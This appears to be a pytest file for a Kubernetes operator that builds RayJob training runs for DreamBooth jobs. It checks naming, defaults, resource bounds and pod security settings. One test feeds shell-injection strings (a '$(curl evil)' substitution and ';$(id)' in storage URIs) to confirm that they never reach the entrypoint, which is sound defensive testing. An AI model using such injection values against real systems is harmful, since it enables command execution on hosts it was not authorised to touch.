"""What an attempt is made of, and why a job cannot start: pure, but for the API server's word on the pods."""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
import yaml
from devcluster import ControlPlane
from pydantic.alias_generators import to_snake
from simulation import RUNTIME, SETTINGS, make_job

from dreambooth_api import environment
from dreambooth_api.job import DreamBoothJob, JobSpec
from dreambooth_api.runtime import RuntimeSpec
from dreambooth_operator.controller.names import attempt_name, erase_name
from dreambooth_operator.controller.rayjob import ENTRYPOINT, attempt_children, erase_children
from dreambooth_operator.controller.resolve import Problem, Resolved, resolve, with_defaults
from dreambooth_operator.controller.views import Job, Runtime, read_job


def job_with(spec: dict[str, Any], name: str = "dog") -> Job:
    return read_job(
        {
            "apiVersion": "dreambooth.dev/v1alpha1",
            "kind": "DreamBoothJob",
            "metadata": {
                "name": name, "namespace": "team", "uid": "u1", "resourceVersion": "1",
                "creationTimestamp": "2026-11-24T06:00:00Z",
            },
            "spec": {"subject": {"images": {"uri": "s3://b/dog"}, "class": "dog"}, **spec},
        }
    )  # fmt: skip


def read_spec(spec: dict[str, Any]) -> JobSpec:
    read = job_with(spec).spec
    assert read
    return read


def resolved(job: Job, runtime: Runtime = RUNTIME) -> Resolved:
    found = resolve(job, runtime, [])
    assert isinstance(found, Resolved), found
    return found


def children(job: Job, runtime: Runtime = RUNTIME) -> dict[str, Any]:
    return {obj["kind"]: obj for _, obj in attempt_children(job, 1, resolved(job, runtime), SETTINGS)}


def test_nothing_of_the_users_reaches_a_shell() -> None:
    evil = '"; $(curl evil) `id`'
    job = job_with(
        {
            "subject": {
                "images": {"uri": "s3://b/x;$(id)"},
                "class": evil,
                "instancePrompt": f"a sks {evil}",
            },
            "output": {"uri": "s3://b/out;$(id)"},
        }
    )
    ray_job = children(job)["RayJob"]["spec"]
    assert (
        ray_job["entrypoint"]
        == ENTRYPOINT
        == ('python -m dreambooth_trainer run /etc/dreambooth/job.yaml --out "$DREAMBOOTH_OUT"')
    )
    assert "curl evil" not in str(ray_job)
    assert evil in children(job)["ConfigMap"]["data"]["job.yaml"].replace("''", "'")


def test_the_trainer_reads_the_job_that_the_pods_mount() -> None:
    job = job_with({"subject": {"images": {"pvc": {"claimName": "photos", "path": "dog"}}, "class": "dog"}})
    made = children(job)
    file = DreamBoothJob.model_validate(yaml.safe_load(made["ConfigMap"]["data"]["job.yaml"]))
    assert file.spec.subject.images.uri == f"{environment.IMAGES_PATH}/dog"
    assert file.spec.model
    head = made["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    env = {e["name"]: e["value"] for e in head["containers"][0]["env"]}
    assert env[environment.OUT] == f"{environment.OUTPUT_PATH}/dog"
    assert env[environment.OUT_SHOWN] == "pvc://work/dog", "what the status tells"
    assert env[environment.STORE] == f"{environment.OUTPUT_PATH}/.class-images"
    assert head["containers"][0]["securityContext"]["readOnlyRootFilesystem"] is True
    assert env[environment.PROGRESS_URL].endswith(":8082/v1/jobs/team/dog/attempts/1")
    claims = {
        v["name"]: v["persistentVolumeClaim"]["claimName"] for v in head["volumes"] if "persistentVolumeClaim" in v
    }
    assert claims == {"images": "photos", "output": "work"}


def test_a_queue_gets_its_label_and_the_first_word() -> None:
    ray_job = children(make_job(queueName="gpus"))["RayJob"]
    assert ray_job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "gpus"
    assert ray_job["spec"]["suspend"] is True
    assert children(make_job())["RayJob"]["spec"]["suspend"] is False


@pytest.mark.parametrize("name", ["dog", "3dogs", "a" * 63, "a-" * 31 + "a", "-"])
def test_names_fit_kuberay_and_differ_between_attempts(name: str) -> None:
    job = job_with({}, name=name)
    names = [attempt_name(job, attempt) for attempt in (1, 2, 999)] + [erase_name(job)]
    assert len(set(names)) == 4
    assert all(len(each) <= 47 and re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", each) for each in names)


def test_builders_leave_what_they_are_given_alone() -> None:
    job = job_with({"cluster": {"nodeSelector": {"a": "b"}, "tolerations": [{"key": "x", "operator": "Exists"}]}})
    found = resolved(job)
    before = copy.deepcopy(found)
    first = attempt_children(job, 1, found, SETTINGS)
    for _, obj in first:
        obj.clear()
    assert found == before
    assert attempt_children(job, 1, found, SETTINGS) == attempt_children(job, 1, before, SETTINGS)


def test_runtime_defaults_fill_only_what_the_job_leaves_unset() -> None:
    defaults = {
        "steps": 7, "learningRate": 0.5, "resolution": 64, "precision": "fp32", "numClassImages": 9,
        "activeDeadlineSeconds": 60, "ttlSecondsAfterFinished": 61, "queueName": "gpus", "priorityClassName": "low",
    }  # fmt: skip
    runtime = RuntimeSpec.model_validate({"image": "t:1", "defaults": defaults})
    spec = with_defaults(read_spec({}), runtime)
    found = {**dict(spec.training), **dict(spec.prior_preservation), **dict(spec.run_policy)}
    assert {name: found[to_snake(name)] for name in defaults} == defaults
    own = with_defaults(read_spec({"priorPreservation": {"numClassImages": 5}}), runtime)
    assert own.prior_preservation.num_class_images == 5
    assert type(own).model_validate(own.model_dump(by_alias=True)) == own, "no field is misnamed"


BOUNDED = {
    "image": "trainer:1",
    "storage": {"claimName": "work"},
    "pods": {"worker": {"gpu": 2}},
    "allowedNamespaces": ["team"],
    "bounds": {"maxWorkers": 4, "maxGpus": 4, "maxSteps": 1000, "maxActiveDeadlineSeconds": 600, "images": ["ok/"]},
}
BROKEN = {
    "too many steps": (
        {"training": {"steps": 5000}},
        "spec.training.steps: 5000 is above 1000, the most that DreamBoothRuntime 'default' allows; write 1000 or less",
    ),
    "too many workers": ({"cluster": {"workers": 9}}, "spec.cluster.workers: 9 is above 4"),
    "too many GPUs": ({"cluster": {"workers": 3}}, "3 x 2 GPUs are 6, above 4"),
    "no deadline": ({"runPolicy": {}}, "spec.runPolicy.activeDeadlineSeconds: missing"),
    "an image of one's own": ({"cluster": {"image": "mine"}}, "spec.cluster.image: 'mine' is not allowed"),
    "another model": ({"model": {"id": "big/one"}}, "spec.model.id: 'big/one' is not allowed"),
}  # fmt: skip


@pytest.mark.parametrize("case", BROKEN)
def test_a_job_beyond_its_runtimes_bounds_is_told_so(case: str) -> None:
    spec, sentence = BROKEN[case]
    job = job_with({"runPolicy": {"activeDeadlineSeconds": 60}, **spec})
    found = resolve(job, Runtime("b", RuntimeSpec.model_validate(BOUNDED)), [])
    assert isinstance(found, Problem)
    assert sentence in found.message


def test_all_broken_bounds_are_told_at_once() -> None:
    job = job_with({"training": {"steps": 5000}, "cluster": {"workers": 9, "image": "mine"}})
    found = resolve(job, Runtime("b", RuntimeSpec.model_validate(BOUNDED)), [])
    assert isinstance(found, Problem)
    assert found.message.count(";") >= 8, found.message
    assert found.reason == "OutOfBounds"


def test_a_runtime_is_for_its_namespaces_only() -> None:
    runtime = Runtime("b", RuntimeSpec.model_validate({**BOUNDED, "allowedNamespaces": ["other"]}))
    found = resolve(job_with({}), runtime, [])
    assert isinstance(found, Problem)
    assert found.message == "DreamBoothRuntime 'default' is not for namespace 'team'; it is for: other"


def test_a_job_without_a_volume_is_told_what_to_write() -> None:
    found = resolve(job_with({}), Runtime("b", RuntimeSpec(image="t:1")), [])
    assert isinstance(found, Problem)
    assert "write pvc: {claimName: ...}" in found.message


def test_pods_fit_the_restricted_profile(plane: ControlPlane, namespace: str) -> None:
    job = job_with({"cluster": {"elastic": {"minWorkers": 1, "maxWorkers": 2}}})
    cluster = children(job)["RayJob"]["spec"]["rayClusterSpec"]
    templates = {
        "head": cluster["headGroupSpec"]["template"],
        "worker": cluster["workerGroupSpecs"][0]["template"],
        "erase": erase_children(job, resolved(job))[-1][1]["spec"]["template"],
    }
    plane.kubectl("create", "serviceaccount", templates["head"]["spec"]["serviceAccountName"], "-n", namespace)
    for name, template in templates.items():
        plane.apply({"apiVersion": "v1", "kind": "Pod", **template, "metadata": {"name": name, "namespace": namespace}})
